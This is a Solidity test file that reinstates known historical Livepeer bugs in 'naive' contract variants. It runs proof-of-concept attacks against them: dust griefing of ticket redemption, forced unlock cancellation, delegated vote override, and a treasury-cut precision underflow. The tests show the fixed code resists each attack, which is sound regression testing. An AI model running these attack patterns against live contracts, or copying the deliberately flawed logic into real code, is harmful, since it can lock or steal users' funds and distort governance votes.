// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {GovernedProtocolFixture} from "./lib/GovernedProtocolFixture.sol";
import {TicketBroker} from "../src/pm/TicketBroker.sol";
import {BondingVotes} from "../src/governance/BondingVotes.sol";
import {LivepeerGovernor} from "../src/governance/LivepeerGovernor.sol";
import {MathUtils} from "../src/libraries/MathUtils.sol";
import {PreciseMathUtils} from "../src/libraries/PreciseMathUtils.sol";
import {IVotes} from "@openzeppelin/contracts/governance/utils/IVotes.sol";
import {TimelockController} from "@openzeppelin/contracts/governance/TimelockController.sol";

// ---------------------------------------------------------------------- naive variants
// Each puts back exactly one rule as Livepeer's contracts had it before the fix, through the
// virtual hook our contract exposes for it; everything else is our code.

/// Deployed broker before protocol PR #657: pays what is there and consumes the ticket.
contract NaivePartialPayoutBroker is TicketBroker {
    constructor(address _controller) TicketBroker(_controller) {}

    function _settle(
        Account storage _a,
        Account memory _acct,
        address _recipient,
        address _sender,
        uint256 _faceValue,
        uint256 _round
    ) internal override returns (uint256) {
        uint256 deposit = _acct.deposit;
        if (_faceValue <= deposit) {
            _a.deposit = uint96(deposit - _faceValue);
            return _faceValue;
        }
        uint256 claimable = _claimableReserve(_sender, _recipient, _acct.reserve, _round);
        uint256 fromReserve = _faceValue - deposit < claimable ? _faceValue - deposit : claimable;
        _claimFromReserve(_a, _acct.reserve, _sender, _recipient, fromReserve, _round);
        _a.deposit = 0;
        return deposit + fromReserve;
    }
}

/// Deployed broker before the 2023 "TicketBrokerForceCancelUnlock" fix: any funding of a
/// sender cancels its unlock, whoever pays.
contract NaiveForceCancelBroker is TicketBroker {
    constructor(address _controller) TicketBroker(_controller) {}

    function _cancelUnlockOnFunding(Account storage _a, address _sender) internal override {
        if (_a.withdrawRound > 0) {
            _a.withdrawRound = 0;
            emit UnlockCancelled(_sender);
        }
    }
}

/// BondingVotes before Code4rena 2023-08 fix #625: a delegator votes its bond whoever its
/// delegate is.
contract NaiveBondingVotes is BondingVotes {
    constructor(address _controller) BondingVotes(_controller) {}

    function _delegatorVotes(Checkpoint memory _bond, uint256) internal pure override returns (uint256) {
        return _bond.bondedAmount;
    }
}

/// Governor counting before Code4rena 2023-08 H-02 (fix #626): a delegator's vote is always
/// subtracted from its delegate's, orchestrator or not.
contract NaiveCountingGovernor is LivepeerGovernor {
    constructor(IVotes _votes, TimelockController _treasury)
        LivepeerGovernor(_votes, _treasury, 1, 10, 100 ether, 333_300, 500_000)
    {}

    function _handleVoteOverrides(
        uint256 _proposalId,
        ProposalTally storage _tally,
        ProposalVoterState storage _voter,
        address _account,
        uint256 _weight
    ) internal override returns (uint256) {
        address delegate = _delegatedAt(_account, proposalSnapshot(_proposalId));
        if (delegate == _account) return _weight - _voter.deductions;
        _overrideDelegateVote(_tally, delegate, _weight);
        return _weight;
    }
}

/// The fee path's rebuild of the previous round's reward factor (BondingManager,
/// updateTranscoderWithFees), with the treasury cut taken at 1e6 precision as in the code of
/// the Code4rena 2023-08 contest (H-01) or at 1e27 as it must be.
contract FeeFactorRebuild {
    function previousRewardFactor(
        bool _precise,
        uint256 _mintable,
        uint256 _totalStake,
        uint256 _totalActiveStake,
        uint256 _treasuryCutRate,
        uint256 _rewardCut,
        uint256 _crf
    ) external pure returns (uint256) {
        uint256 rewards = PreciseMathUtils.percOf(_mintable, _totalStake, _totalActiveStake);
        rewards -= _precise
            ? PreciseMathUtils.percOf(rewards, _treasuryCutRate)
            : MathUtils.percOf(rewards, _treasuryCutRate);
        uint256 delegatorsRewards = rewards - MathUtils.percOf(rewards, _rewardCut);
        return PreciseMathUtils.percOf(_crf, _totalStake, delegatorsRewards + _totalStake);
    }
}

/// Proofs of concept of the known attacks (docs/faults.md#front-running-draining-and-dust-griefing,
/// #third-party-unlock-cancels-and-forced-delegation; Code4rena 2023-08 H-01, H-02): each attack
/// succeeds against the naive variant and fails against ours.
contract AttackPoCsTest is GovernedProtocolFixture {
    uint256 internal constant RAND = 77;

    address internal t1;
    address internal sender;
    uint256 internal senderKey;
    address internal attacker;

    function setUp() public {
        deployGovernedProtocol();
        t1 = makeAddr("t1");
        registerTranscoder(t1, 3000 ether, 0, 0);
        nextRound();
        sender = makeAddr("sender");
        senderKey = keyOf("sender");
        attacker = makeAddr("attacker");
        vm.deal(attacker, 1 ether);
    }

    function installBrokerTarget(address target) internal {
        vm.prank(treasury); // the Controller's owner; a proposal in production
        controller.setContractInfo(keccak256("TicketBrokerTarget"), target, bytes20(0));
    }

    // ------------------------------------------------------------------ #16 dust griefing

    /// The sender ran dry; the orchestrator waits for a top-up to redeem its 1 ETH ticket.
    /// The attacker front-runs the redemption with a 1-wei fundDepositAndReserveFor.
    function dustGriefingAttack() internal returns (TicketBroker.Ticket memory t, bytes memory sig) {
        t = winningTicket(t1, sender, 1 ether, 1, RAND);
        sig = signTicket(senderKey, t);
        vm.expectRevert(bytes("sender deposit and reserve are zero"));
        broker.redeemWinningTicket(t, sig, RAND);
        vm.prank(attacker);
        broker.fundDepositAndReserveFor{value: 1}(sender, 1, 0);
    }

    function test_DustGriefing_SucceedsAgainstTheNaiveBroker() public {
        installBrokerTarget(address(new NaivePartialPayoutBroker(address(controller))));
        (TicketBroker.Ticket memory t, bytes memory sig) = dustGriefingAttack();
        vm.prank(t1);
        broker.redeemWinningTicket(t, sig, RAND);
        vm.assertEq(pendingFees(t1), 1, "the orchestrator got 1 wei for a 1 ETH ticket");
        vm.assertTrue(broker.usedTickets(broker.getTicketHash(t)), "and the ticket is burnt");
        fundSender(sender, 5 ether, 0);
        vm.expectRevert(bytes("ticket is used"));
        broker.redeemWinningTicket(t, sig, RAND);
    }

    function test_DustGriefing_FailsAgainstOurs() public {
        (TicketBroker.Ticket memory t, bytes memory sig) = dustGriefingAttack();
        vm.prank(t1);
        vm.expectRevert(bytes("sender deposit and reserve insufficient to cover ticket face value"));
        broker.redeemWinningTicket(t, sig, RAND);
        vm.assertFalse(broker.usedTickets(broker.getTicketHash(t)), "the ticket survives");
        fundSender(sender, 5 ether, 0);
        vm.prank(t1);
        broker.redeemWinningTicket(t, sig, RAND);
        vm.assertEq(pendingFees(t1), 1 ether, "paid in full once the sender tops up");
    }

    // ------------------------------------------------------------------ #17 forced unlock cancel

    /// The sender unlocks to leave; the attacker keeps cancelling its unlock with 1-wei
    /// fundings so that it can never withdraw.
    function forcedCancelAttack() internal {
        fundSender(sender, 2 ether, 1 ether);
        vm.prank(sender);
        broker.unlock();
        vm.prank(attacker);
        broker.fundDepositAndReserveFor{value: 1}(sender, 1, 0);
        advanceRounds(UNLOCK_PERIOD);
    }

    function test_ForcedUnlockCancel_SucceedsAgainstTheNaiveBroker() public {
        installBrokerTarget(address(new NaiveForceCancelBroker(address(controller))));
        forcedCancelAttack();
        vm.assertFalse(broker.isUnlockInProgress(sender), "the attacker cancelled the unlock");
        vm.prank(sender);
        vm.expectRevert(bytes("no unlock request in progress"));
        broker.withdraw();
    }

    function test_ForcedUnlockCancel_FailsAgainstOurs() public {
        forcedCancelAttack();
        vm.assertTrue(broker.isUnlockInProgress(sender), "unlock intact");
        uint256 before = sender.balance;
        vm.prank(sender);
        broker.withdraw();
        vm.assertEq(sender.balance - before, 3 ether + 1, "withdrew everything, the attacker's wei too");
    }

    // ------------------------------------------------------------------ H-02 vote override

    address internal xavier; // a delegator of t1
    address internal dora; // delegates to xavier, who is not an orchestrator

    /// xavier (1000 LPT, delegating to t1) votes For; dora (`doraStake`, delegating to
    /// xavier) votes Against. Returns the tally of `gov`.
    function overrideScenario(LivepeerGovernor gov, uint256 doraStake, bool expectDoraReverts)
        internal
        returns (uint256 against, uint256 for_)
    {
        xavier = makeAddr("xavier");
        dora = makeAddr("dora");
        fund(xavier, 1000 ether);
        bondAs(xavier, 1000 ether, t1);
        fund(dora, doraStake);
        bondAs(dora, doraStake, xavier);
        nextRound();
        address[] memory targets = new address[](1);
        targets[0] = address(minter);
        bytes[] memory calldatas = new bytes[](1);
        calldatas[0] = abi.encodeWithSignature("setInflationChange(uint256)", uint256(600));
        vm.prank(t1);
        uint256 id = gov.propose(targets, new uint256[](1), calldatas, "H-02");
        nextRound();
        nextRound();
        vm.prank(xavier);
        gov.castVote(id, 1);
        vm.prank(dora);
        if (expectDoraReverts) vm.expectRevert(); // arithmetic underflow in the tally
        gov.castVote(id, 0);
        (against, for_,) = gov.proposalVotes(id);
    }

    function installNaiveVotes() internal {
        BondingVotes naive = new NaiveBondingVotes(address(controller));
        vm.prank(treasury);
        controller.setContractInfo(keccak256("BondingVotesTarget"), address(naive), bytes20(0));
    }

    function test_H02_SucceedsAgainstTheNaiveVotesAndCounting() public {
        installNaiveVotes();
        NaiveCountingGovernor naive = new NaiveCountingGovernor(bondingVotes, treasuryTimelock);
        (uint256 against, uint256 for_) = overrideScenario(naive, 400 ether, false);
        vm.assertEq(for_, 600 ether, "dora's 400 were taken out of xavier's own 1000");
        vm.assertEq(against, 400 ether, "and counted Against");
    }

    /// With more stake than xavier, dora's vote underflows xavier's bucket: she can't vote.
    function test_H02_NaiveCountingBlocksAVoter() public {
        installNaiveVotes();
        NaiveCountingGovernor naive = new NaiveCountingGovernor(bondingVotes, treasuryTimelock);
        (uint256 against, uint256 for_) = overrideScenario(naive, 2000 ether, true);
        vm.assertEq(for_, 1000 ether, "xavier's vote");
        vm.assertEq(against, 0, "dora could not vote");
    }

    /// Our counting alone already protects xavier's vote, even with the naive voting power.
    function test_H02_OurCountingWithNaiveVotes() public {
        installNaiveVotes();
        (uint256 against, uint256 for_) = overrideScenario(governor, 400 ether, false);
        vm.assertEq(for_, 1000 ether, "xavier's vote intact");
        vm.assertEq(against, 400 ether, "dora's counted on its own");
    }

    /// Ours: dora's delegate is not an orchestrator, so she has no voting power at all, and
    /// nothing is subtracted from xavier.
    function test_H02_FailsAgainstOurs() public {
        (uint256 against, uint256 for_) = overrideScenario(governor, 400 ether, false);
        vm.assertEq(for_, 1000 ether, "xavier's vote intact");
        vm.assertEq(against, 0, "dora's delegate is not an orchestrator: no votes");
        vm.assertLe(for_ + against, bondingVotes.getPastTotalSupply(currentRound() - 1), "within active stake");
    }

    // ------------------------------------------------------------------ H-01 treasury cut precision

    /// The rebuild with the chain's numbers: the naive one underflows, ours finds the factor.
    function checkRebuild(uint256 round) internal returns (uint256 rebuilt) {
        FeeFactorRebuild rebuild = new FeeFactorRebuild();
        uint256 mintable = minter.currentMintableTokens() + minter.currentMintedTokens();
        uint256 stake = poolStake(t1, round);
        uint256 total = bondingManager.currentRoundTotalActiveStake();
        uint256 cut = bondingManager.treasuryRewardCutRate();
        uint256 crf = poolCRF(t1, round);
        vm.assertEq(cut, 1e26, "10% treasury cut");
        // Naive: at 1e6 precision the 10% cut becomes 1e20 times the reward: underflow.
        vm.expectRevert(abi.encodeWithSignature("Panic(uint256)", 0x11));
        rebuild.previousRewardFactor(false, mintable, stake, total, cut, 100_000, crf);
        rebuilt = rebuild.previousRewardFactor(true, mintable, stake, total, cut, 100_000, crf);
        // Livepeer's rebuild estimates the round's reward from mintable + minted, so it lands
        // a little below the last reward's factor; what matters is a factor, not a revert.
        vm.assertGt(rebuilt, 1e27, "a reward factor above 1");
        vm.assertLt(rebuilt, crf, "below this round's factor");
    }

    /// A transcoder that skipped the previous round's reward calls reward() and then redeems
    /// a winning ticket in the same round: the fee path rebuilds the previous round's reward
    /// factor, subtracting the treasury cut (10%, 1e27 precision) from the round's reward.
    function test_H01_TreasuryCutPrecision() public {
        address d = makeAddr("delegator");
        fund(d, 1000 ether);
        bondAs(d, 1000 ether, t1);
        rewardAs(t1);
        vm.prank(t1);
        bondingManager.transcoder(100_000, 500_000); // 10% reward cut, half the fees to delegators
        nextRound();
        rewardAs(t1);
        nextRound(); // t1 skips this round's reward
        nextRound();
        rewardAs(t1);
        uint256 round = currentRound();
        vm.assertEq(poolCRF(t1, round - 1), 0, "no factor for the previous round: the rebuild path");

        uint256 rebuilt = checkRebuild(round);

        // Ours: the redemption goes through and every wei of fees is accounted for.
        fundSender(sender, 10 ether, 0);
        TicketBroker.Ticket memory t = winningTicket(t1, sender, 1 ether, 1, RAND);
        broker.redeemWinningTicket(t, signTicket(senderKey, t), RAND);
        uint256 credited = pendingFees(t1) + pendingFees(d);
        vm.assertLe(credited, 1 ether, "no more than paid");
        // The rebuilt factor is Livepeer's estimate (see checkRebuild): the delegators' share
        // of this round's fees comes out a little low, never high.
        vm.assertGe(credited, 0.999 ether, "all but the estimate's shortfall");
        vm.assertEq(
            poolCFF(t1, round),
            PreciseMathUtils.percOf(rebuilt, 0.5 ether, poolStake(t1, round)),
            "the fee factor grew by half the fees at the rebuilt factor (1e27 precision)"
        );
        vm.assertApproxEqAbs(pendingFees(d), 0.5 ether * 1000 / 4000, 1e15, "the delegator's share of half the fees");
    }
}
